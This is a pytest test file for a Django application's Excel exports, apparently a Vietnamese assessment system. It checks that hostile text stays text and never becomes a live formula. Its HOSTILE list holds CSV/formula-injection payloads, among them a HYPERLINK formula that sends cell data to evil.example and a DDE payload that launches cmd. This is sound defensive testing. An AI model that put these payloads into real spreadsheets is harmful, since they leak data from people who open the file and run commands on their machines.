"""Hostile text through every Excel export: it stays text, verbatim, and no cell is a formula.

Each export is downloaded through its page and read back with openpyxl. A cell whose data type is
"f" would be a live formula when the file is opened; "e" would be an error value.
"""

from __future__ import annotations

import io

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from assessments import services
from assessments.models import Assessment, State, Village
from criteria import xlsx
from criteria.models import CriteriaSet, Indicator
from tests.conftest import POSTAL_ALL, indicator

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "#N/A",
    "Dòng một\r\nDòng hai",
    "_x000D_ viết tay",
    "Từ Word:\x0bxuống dòng",
]


def read_back(content: bytes) -> list[str]:
    """Every text cell of the workbook as written, after checking that none is a formula."""
    wb = load_workbook(io.BytesIO(content))
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type not in ("f", "e"), (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(xlsx.unescape(cell.value))
    return texts


def body(response) -> bytes:
    assert response.status_code == 200
    assert response["Content-Type"] == xlsx.CONTENT_TYPE
    return b"".join(response.streaming_content)


# ---------------------------------------------------------------- the writer itself


@pytest.mark.parametrize("write_only", [False, True])
def test_text_cells_keep_any_text_verbatim_and_never_become_formulas(write_only):
    wb = Workbook(write_only=write_only)
    ws = wb.create_sheet("Dữ liệu")
    for text in HOSTILE:
        xlsx.append(ws, [text, 1.5, None])

    content = xlsx.to_bytes(wb)

    assert read_back(content) == HOSTILE
    rows = list(xlsx.sheet_rows(load_workbook(io.BytesIO(content))["Dữ liệu"]))
    assert [row[0] for row in rows] == HOSTILE
    assert {row[1] for row in rows} == {1.5}


def test_text_escaped_by_excel_reads_back_as_excel_shows_it():
    wb = Workbook()
    ws = wb.active
    ws.append(["Dòng một_x000D_\nDòng hai", "_x005F_x000D_"])  # as Excel saves them

    (row,) = xlsx.sheet_rows(load_workbook(io.BytesIO(xlsx.to_bytes(wb))).active)

    assert row == ("Dòng một\r\nDòng hai", "_x000D_")


def test_cell_text_reads_a_cell_as_trimmed_text():
    assert [xlsx.cell_text(v) for v in (None, 12.0, 12.5, 7, "  Có ")] == [
        "",
        "12",
        "12.5",
        "7",
        "Có",
    ]


# ---------------------------------------------------------------- every export


def test_criteria_set_export_keeps_hostile_text_as_text(client, user, ntm_set):
    Indicator.objects.filter(criterion__criteria_set=ntm_set, code="8.1").update(
        content=HOSTILE[0], guidance=HOSTILE[9], evidence_expected=HOSTILE[7]
    )
    CriteriaSet.objects.filter(pk=ntm_set.pk).update(legal_title=HOSTILE[3], notes=HOSTILE[11])
    client.force_login(user)

    texts = read_back(body(client.get(reverse("criteria:set_export", args=[ntm_set.pk]))))

    for text in (HOSTILE[0], HOSTILE[9], HOSTILE[7], HOSTILE[3], HOSTILE[11]):
        assert text in texts


def test_entry_template_keeps_hostile_text_as_text(client, district_officer, assessment, villages):
    for code, note in (("8.1", HOSTILE[0]), ("8.3", HOSTILE[4]), ("8.4", HOSTILE[9])):
        services.save_entry(
            user=district_officer,
            assessment=assessment,
            indicator=indicator(assessment.criteria_set, code),
            entry=services.Entry(inputs=POSTAL_ALL if code == "8.1" else {}, note=note),
            seen_version=None,
        )
    Village.objects.filter(pk=villages[0].pk).update(name=HOSTILE[5])
    client.force_login(district_officer)

    response = client.get(
        reverse("assessments:excel_template", args=[assessment.commune.district_id]),
        {"period": assessment.period_id, "set": assessment.criteria_set_id},
    )
    texts = read_back(body(response))

    for text in (HOSTILE[0], HOSTILE[4], HOSTILE[9], HOSTILE[5]):
        assert text in texts


def test_meeting_workbook_keeps_hostile_text_as_text(
    client, user, district_officer, assessment, commune, period
):
    services.save_entry(
        user=district_officer,
        assessment=assessment,
        indicator=indicator(assessment.criteria_set, "8.1"),
        entry=services.Entry(inputs=POSTAL_ALL, override_met=False, override_reason=HOSTILE[0]),
        seen_version=None,
    )
    Assessment.objects.filter(pk=assessment.pk).update(state=State.SUBMITTED)
    commune.name = HOSTILE[1]
    commune.save(update_fields=["name"])
    commune.district.name = HOSTILE[11]
    commune.district.save(update_fields=["name"])
    period.name = HOSTILE[8]
    period.save(update_fields=["name"])
    client.force_login(user)

    response = client.get(
        reverse("reports:province_export"), {"period": period.pk, "submitted": "on"}
    )
    texts = read_back(body(response))

    assert HOSTILE[1] in texts  # the commune's name, alone in its cell
    assert HOSTILE[11] in texts  # the district's, with a character XML cannot hold as it is
    assert any(HOSTILE[0] in text for text in texts)  # the override's reason
    assert any(HOSTILE[8] in text for text in texts)  # the period, in the title block
